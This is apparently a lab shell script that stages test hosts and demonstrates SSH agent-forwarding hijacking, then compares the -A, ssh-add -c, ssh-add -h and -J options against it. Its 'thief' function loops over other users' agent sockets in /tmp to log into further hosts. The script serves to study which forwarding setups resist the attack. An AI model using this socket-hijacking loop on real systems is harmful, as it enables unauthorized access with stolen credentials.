. ./hosts.sh
export SSH_ASKPASS=$PWD/answer.sh SSH_ASKPASS_REQUIRE=force
for name in hop bank vault; do serve "$name"; done
key ann; allow ann
ssh-agent -a laptop > log
laptop=$PWD/laptop

# #region attack
# On the hop, with Ann's rights or root's: any agent socket will do.
thief() {
  for socket in /tmp/ssh-*/agent.*; do
    SSH_AUTH_SOCK=$socket ssh "$1" echo in 2> /dev/null && return
  done
  echo no
}

# Ann logs in through the hop, and says yes if her agent asks. While
# she is there the thief tries his luck; then she leaves.
attempt() {
  echo yes > answer
  SSH_AUTH_SOCK=$laptop ssh "$@" \
    "echo \$\$ > $PWD/shell; exec sleep 900" &
  until [ -s shell ]; do sleep 0.05; done
  echo no > answer
  printf '%-5s %-6s' "$(thief bank)" "$(thief vault)"
  kill "$(cat shell)"; wait $!; rm shell
  echo "$(thief bank)"
}
# #endregion attack

load() { SSH_AUTH_SOCK=$laptop ssh-add -q "$@" ann; }

# #region ways
echo "        bank  vault later"
load
echo "-A      $(attempt -A hop)"
load -c
echo "-A, -c  $(attempt -A hop)"
load -h hop -h 'hop>bank'
echo "-A, -h  $(attempt -A hop)"
load
echo "-J      $(attempt -J hop bank)"
# #endregion ways
